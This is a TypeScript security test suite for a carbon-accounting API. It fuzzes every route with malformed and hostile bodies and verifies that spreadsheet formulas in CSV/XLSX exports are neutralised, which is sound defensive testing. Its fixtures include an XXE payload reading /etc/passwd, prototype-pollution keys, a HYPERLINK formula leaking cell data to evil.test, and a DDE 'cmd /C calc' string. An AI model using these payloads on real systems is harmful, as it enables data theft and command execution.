import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { randomBytes, randomUUID } from 'node:crypto';
import {
  Body,
  SignedUp,
  TestApp,
  createSite,
  serverMode,
  signup,
  startApp,
  waitFor,
  createMeter,
} from '../support/harness';
import { RouteInfo, listRoutes } from '../support/routes';

const HUGE = '99999999999999999999999';
/** What a spreadsheet would read as a formula: OWASP's leading characters, unless the text is a plain number. */
const FORMULA_LEADING = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;
const isFormulaLike = (s: string) => FORMULA_LEADING.test(s) && !PLAIN_NUMBER.test(s);

/** A JSON text nested `depth` arrays deep (about 2 bytes a level). */
const deepJson = (depth: number) => `{"email":${'['.repeat(depth)}1${']'.repeat(depth)},"password":"x"}`;

/**
 * Hostile input across the whole route table (walked from Nest's metadata): no input of the probe list
 * gets a 5xx; the cases with a known field get a 400 problem+json naming it. Then spreadsheet injection:
 * tenant text that a spreadsheet would run as a formula reaches every CSV/XLSX export neutralised.
 */
describe(`security: hostile input and exports (${serverMode().database}, ${serverMode().queue})`, () => {
  let t: TestApp;
  let a: SignedUp;
  let siteId: string;
  let meterId: string;
  let routes: RouteInfo[];
  /** Every 5xx seen, as `METHOD path probe → status body`: the walk's single assertion. */
  const fiveHundreds: string[] = [];

  const api = (path: string) => `/api/v1/orgs/${a.orgId}${path}`;
  /** A route's path with its parameters filled: our org, site and meter, random UUIDs, huge integers. */
  const fill = (path: string) =>
    path.replace(/:(\w+)/g, (_m, name: string) => {
      if (name === 'orgId') return a.orgId;
      if (name === 'siteId') return siteId;
      if (name === 'meterId') return meterId;
      if (name === 'version' || name === 'number') return HUGE;
      return randomUUID();
    });
  const record = (what: string, res: { status: number; text: string }) => {
    if (res.status >= 500) fiveHundreds.push(`${what} → ${res.status} ${res.text.slice(0, 300)}`);
  };
  const send = (method: string, url: string) => {
    const m = method.toLowerCase() as 'post' | 'put' | 'patch' | 'get' | 'delete';
    return t.http[m](url).set(a.auth);
  };
  const expectProblem = (
    res: { status: number; headers: Record<string, string>; body: Body },
    code: string,
    field: string,
  ) => {
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(res.body.code).toBe(code);
    expect(res.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ field })]));
  };

  beforeAll(async () => {
    t = await startApp();
    a = await signup(t, 'sec-input');
    siteId = await createSite(t, a);
    meterId = await createMeter(t, a, siteId);
    // Routes that end the caller's session go last, so the walk keeps its token as long as it can.
    routes = listRoutes(t.app).sort(
      (x, y) => Number(x.path.startsWith('/api/v1/auth')) - Number(y.path.startsWith('/api/v1/auth')),
    );
  });
  afterAll(() => t?.close());

  describe('the probe list, field by field', () => {
    it('a deeply nested 30 KB JSON body on /auth/login is a 400 before validation, not a stack overflow', async () => {
      const body = deepJson(15_000);
      expect(body.length).toBeGreaterThan(30_000);
      const res = await t.http.post('/api/v1/auth/login').set('Content-Type', 'application/json').send(body);
      expectProblem(res, 'body_too_deep', 'body');
      // 32 levels are accepted as far as the parser goes (validation then refuses the field's type)
      const ok = await t.http
        .post('/api/v1/auth/login')
        .set('Content-Type', 'application/json')
        .send(deepJson(31));
      expect(ok.status).toBe(400);
      expect(ok.body.code).not.toBe('body_too_deep');
      // brackets inside strings are text, not depth
      const text = await t.http
        .post('/api/v1/auth/login')
        .send({ email: '['.repeat(5000), password: '{'.repeat(5000) });
      expect(text.status).toBeLessThan(500);
      expect(text.body.code).not.toBe('body_too_deep');
    });

    it('a NUL or a lone surrogate in a name is a 400 naming the field (PostgreSQL would fail on it)', async () => {
      expectProblem(
        await t.http
          .post(api('/sites'))
          .set(a.auth)
          .send({ name: 'Plant\u0000B', country: 'GB', timezone: 'UTC' }),
        'invalid_characters',
        'name',
      );
      expectProblem(
        await t.http
          .put(api(`/sites/${siteId}`))
          .set(a.auth)
          .set('Content-Type', 'application/json')
          .send('{"name":"Plant \\ud800 B"}'),
        'invalid_characters',
        'name',
      );
      // nested: the path names it
      expectProblem(
        await t.http
          .post(api('/instruments'))
          .set(a.auth)
          .set('Content-Type', 'application/json')
          .send('{"type":"rego","certificateIds":["ok","bad\\udc00"]}'),
        'invalid_characters',
        'certificateIds.1',
      );
      // in a multipart field (parsed inside the route, so checked by the validation pipe)
      expectProblem(
        await t.http
          .post(api(`/claims/${randomUUID()}/evidence`))
          .set(a.auth)
          .field('kind', 'bill')
          .field('description', 'scan\u0000 of the bill')
          .attach('file', Buffer.from('a,b\n1,2\n'), 'bill.csv'),
        'invalid_characters',
        'description',
      );
      // in a query string
      expectProblem(
        await t.http.get(api('/activities?from=2024-01-01%00')).set(a.auth),
        'invalid_characters',
        'from',
      );
      // a paired surrogate (an emoji) is ordinary text
      const emoji = await t.http
        .post(api('/sites'))
        .set(a.auth)
        .send({ name: 'Plant 🌱', country: 'GB', timezone: 'UTC' });
      expect(emoji.status).toBe(201);
      expect(emoji.body.name).toBe('Plant 🌱');
    });

    it('a bigint-sized number in a query is a 400 naming the parameter', async () => {
      expectProblem(await t.http.get(api(`/audit-events?before=${HUGE}`)).set(a.auth), 'bad_input', 'before');
      expectProblem(await t.http.get(api(`/audit-events?limit=${HUGE}`)).set(a.auth), 'bad_input', 'limit');
      const page = await t.http
        .get(api('/audit-events?before=999999999999999999&limit=5'))
        .set(a.auth)
        .expect(200);
      expect(Array.isArray(page.body)).toBe(true);
    });

    it('a random-bytes .xlsx (and one that starts like a zip) fails its import with a plain message, no internal text', async () => {
      const files = [
        randomBytes(4096),
        Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(4096)]),
      ];
      for (const file of files) {
        const res = await t.http
          .post(api(`/meters/${meterId}/imports`))
          .set(a.auth)
          .attach('file', file, 'readings.xlsx')
          .expect(202);
        const done = await waitFor(t, api(`/imports/${res.body.importId}`), a.auth, 60_000);
        expect(done.status).toBe('failed');
        expect(done.errorCode).toMatch(/^[A-Z_]+$/);
        expect(done.error).toEqual(expect.any(String));
        expect(JSON.stringify(done)).not.toMatch(
          /node_modules|\bat \w+ \(|\.ts:\d|\.js:\d|TypeError|RangeError|Cannot read|ENOENT|yauzl|saxes|exceljs|\/tmp\/|\/work\//i,
        );
      }
    });

    it('__proto__ and constructor keys neither reach a prototype nor cause a 5xx', async () => {
      const res = await t.http
        .post(api('/sites'))
        .set(a.auth)
        .set('Content-Type', 'application/json')
        .send(
          '{"name":"P","country":"GB","timezone":"UTC","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}',
        );
      expect(res.status).toBeLessThan(500);
      if (res.status === 201) expect(res.body.polluted).toBeUndefined();
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    });
  });

  describe('the route walk', () => {
    /** Bad bodies for every POST/PUT/PATCH route: [name, content type, raw body]. */
    const BODIES: [string, string, string][] = [
      ['deep', 'application/json', deepJson(40)],
      ['nul', 'application/json', '{"name":"a\\u0000b","email":"x\\u0000@example.com"}'],
      ['lone surrogate', 'application/json', '{"name":"\\ud83d","description":"x"}'],
      [
        '__proto__',
        'application/json',
        '{"__proto__":{"isAdmin":true,"role":"owner"},"constructor":{"prototype":{"x":1}}}',
      ],
      ['array', 'application/json', '[{"name":"x"},{"name":"y"}]'],
      ['scalar', 'application/json', '123'],
      ['null', 'application/json', 'null'],
      [
        'huge numbers',
        'application/json',
        `{"year":${HUGE},"quantity":${HUGE}e400,"limit":-${HUGE},"dataQuality":1e309}`,
      ],
      [
        'objects for strings',
        'application/json',
        '{"name":{"$gt":""},"email":["a"],"password":{"toString":1}}',
      ],
      ['empty json', 'application/json', ''],
      ['malformed json', 'application/json', '{"name":'],
      ['text/plain', 'text/plain', '{"name":"x"}'],
      ['form', 'application/x-www-form-urlencoded', 'name=a%00b&__proto__[x]=1'],
      [
        'xml',
        'application/xml',
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      ],
    ];

    it('no POST/PUT/PATCH route answers 5xx to any bad body; depth, NUL and surrogates are 400 everywhere', async () => {
      const writes = routes.filter((r) => ['POST', 'PUT', 'PATCH'].includes(r.method));
      expect(writes.length).toBeGreaterThan(40);
      const wrongAnswers: string[] = [];
      for (const r of writes) {
        for (const [name, type, raw] of BODIES) {
          const url = fill(r.path);
          const res = await send(r.method, url).set('Content-Type', type).send(raw);
          record(`${r.method} ${r.path} [${name}]`, res);
          // a Map, not an object literal: the probe named "__proto__" must not find Object.prototype
          const expected = new Map([
            ['deep', 'body_too_deep'],
            ['nul', 'invalid_characters'],
            ['lone surrogate', 'invalid_characters'],
          ]).get(name);
          if (
            expected &&
            (res.status !== 400 || res.body.code !== expected || !res.body.errors?.[0]?.field)
          ) {
            wrongAnswers.push(`${r.method} ${r.path} [${name}] → ${res.status} ${res.body.code}`);
          }
          if (res.status >= 400 && !/application\/problem\+json/.test(res.headers['content-type'] ?? '')) {
            wrongAnswers.push(
              `${r.method} ${r.path} [${name}] → ${res.status} as ${res.headers['content-type']}`,
            );
          }
        }
      }
      expect(fiveHundreds).toEqual([]);
      expect(wrongAnswers).toEqual([]);
      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    });

    it('no GET route answers 5xx to huge, negative, fractional or NUL query numbers, or huge path integers', async () => {
      const reads = routes.filter((r) => r.method === 'GET');
      expect(reads.length).toBeGreaterThan(40);
      // The query parameters each route declares, from the OpenAPI document the app serves.
      const doc = (await t.http.get('/api/docs/openapi.json').expect(200)).body as {
        paths: Record<string, Record<string, { parameters?: { in: string; name: string }[] }>>;
      };
      const declared = (path: string) =>
        (doc.paths[path.replace(/:(\w+)/g, '{$1}')]?.get?.parameters ?? [])
          .filter((p) => p.in === 'query')
          .map((p) => p.name);
      const params = [
        'before',
        'after',
        'limit',
        'offset',
        'page',
        'year',
        'from',
        'to',
        'siteId',
        'includeHours',
      ];
      const probes = [HUGE, `-${HUGE}`, '1e309', '-1', '0.5', 'NaN', '2024-13-45', '1'.repeat(400)];
      const nulWrong: string[] = [];
      let declaredProbes = 0;
      for (const r of reads) {
        const url = fill(r.path);
        for (const p of probes) {
          const res = await send(
            'GET',
            `${url}?${params.map((k) => `${k}=${encodeURIComponent(p)}`).join('&')}`,
          );
          record(`GET ${r.path} [query ${p.slice(0, 20)}]`, res);
        }
        // each declared parameter alone, the others valid where they must be (a period), so the probe reaches the handler
        for (const name of declared(r.path)) {
          for (const p of [HUGE, `-${HUGE}`, '1e309', '0.5']) {
            const base = new URLSearchParams({ from: '2024-01-01', to: '2024-02-01' });
            base.set(name, p);
            record(`GET ${r.path} [${name}=${p.slice(0, 20)}]`, await send('GET', `${url}?${base}`));
            declaredProbes++;
          }
        }
        // each parameter as an array, and a NUL
        record(
          `GET ${r.path} [arrays]`,
          await send('GET', `${url}?${params.map((k) => `${k}=1&${k}=2`).join('&')}`),
        );
        const nul = await send('GET', `${url}?limit=1%00`);
        record(`GET ${r.path} [nul]`, nul);
        if (nul.status !== 400 || nul.body.code !== 'invalid_characters')
          nulWrong.push(`GET ${r.path} → ${nul.status}`);
        // a huge integer wherever the path has an id
        if (r.path.includes(':')) {
          const huge = r.path.replace(/:(\w+)/g, (_m, n: string) => (n === 'orgId' ? a.orgId : HUGE));
          record(`GET ${r.path} [huge path ids]`, await send('GET', huge));
        }
      }
      expect(declaredProbes).toBeGreaterThan(40);
      expect(fiveHundreds).toEqual([]);
      expect(nulWrong).toEqual([]);
    });
  });

  describe('spreadsheet injection in exports', () => {
    const PAYLOADS = {
      hyperlink: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
      cmd: "+cmd|' /C calc'!A0",
      arithmetic: '-2+3',
      at: '@SUM(1+1)',
      region: '=1+1',
    };
    let b: SignedUp;
    let csvText: string;
    let xlsxCells: { sheet: string; address: string; value: ExcelJS.CellValue }[];
    const apiB = (path: string) => `/api/v1/orgs/${b.orgId}${path}`;

    beforeAll(async () => {
      // The organisation name, a tenant factor's source, edition, label, region and unit, and an activity's
      // own text (an unknown activity is a flagged line showing it): all tenant-editable, all in the exports.
      b = await signup(t, 'sec-export', { organizationName: PAYLOADS.hyperlink });
      await t.http
        .post(apiB('/emission-factors'))
        .set(b.auth)
        .send({
          activity: 'widget_shipping',
          region: PAYLOADS.region,
          year: 2024,
          unit: 'tkm',
          kgCo2ePerUnit: '0.25',
          scope: 3,
          scope3Category: 4,
          source: PAYLOADS.hyperlink,
          edition: PAYLOADS.at,
          evidence: 'contract 7',
          label: PAYLOADS.cmd,
        })
        .expect(201);
      await t.http
        .post(apiB('/activities'))
        .set(b.auth)
        .send({
          activity: 'widget_shipping',
          scope: 3,
          scope3Category: 4,
          quantity: '40',
          unit: 'tkm',
          periodFrom: '2024-02-01',
          periodTo: '2024-03-01',
          dataQuality: 2,
          region: PAYLOADS.region,
        })
        .expect(201);
      await t.http
        .post(apiB('/activities'))
        .set(b.auth)
        .send({
          activity: PAYLOADS.arithmetic,
          scope: 1,
          quantity: '3',
          unit: 'kWh',
          periodFrom: '2024-02-01',
          periodTo: '2024-03-01',
          dataQuality: 3,
        })
        .expect((res) => expect([res.status, res.text]).toEqual([201, expect.anything()]));

      csvText = (
        await t.http.get(apiB('/inventory/report.csv?from=2024-01-01&to=2025-01-01')).set(b.auth).expect(200)
      ).text;
      const xlsx = await t.http
        .get(apiB('/inventory/report.xlsx?from=2024-01-01&to=2025-01-01'))
        .set(b.auth)
        .buffer(true)
        .parse((res, cb) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => cb(null, Buffer.concat(chunks)));
        })
        .expect(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.body as never);
      xlsxCells = [];
      wb.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) =>
            xlsxCells.push({ sheet: sheet.name, address: cell.address, value: cell.value }),
          ),
        ),
      );
    });

    it('the CSV report shows each payload as text behind a quote, and no field a spreadsheet would run', () => {
      const rows = parse(csvText, { relax_column_count: false }) as string[][];
      const fields = rows.flat();
      expect(fields.filter(isFormulaLike)).toEqual([]);
      for (const p of [PAYLOADS.hyperlink, PAYLOADS.at, PAYLOADS.arithmetic, PAYLOADS.region])
        expect(fields).toContain(`'${p}`);
      // neutralised fields are quoted in the file itself
      expect(csvText).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
      // numbers stay numbers: the priced line's quantity and kg CO2e, unquoted
      const header = rows[0];
      const priced = rows.find((r) => r[header.indexOf('factorSource')] === `'${PAYLOADS.hyperlink}`);
      expect(priced?.[header.indexOf('quantity')]).toBe('40');
      expect(priced?.[header.indexOf('kgCo2e')]).toBe('10');
      expect(csvText).toMatch(/,40,tonne\.km,/);
    });

    it('the XLSX report has no formula cell and no string cell a spreadsheet would run; numbers are numbers', () => {
      const strings = xlsxCells.filter((c) => typeof c.value === 'string').map((c) => c.value as string);
      expect(
        xlsxCells.filter(
          (c) => c.value !== null && typeof c.value === 'object' && !(c.value instanceof Date),
        ),
      ).toEqual([]);
      expect(strings.filter(isFormulaLike)).toEqual([]);
      for (const p of Object.values(PAYLOADS)) expect(strings).toContain(`'${p}`);
      const lines = xlsxCells.filter((c) => c.sheet === 'Lines');
      expect(lines.some((c) => c.value === 40)).toBe(true);
      expect(lines.some((c) => c.value === 10)).toBe(true);
      const factors = xlsxCells.filter((c) => c.sheet === 'Factors used');
      expect(factors.some((c) => c.value === 0.25)).toBe(true);
    });
  });
});
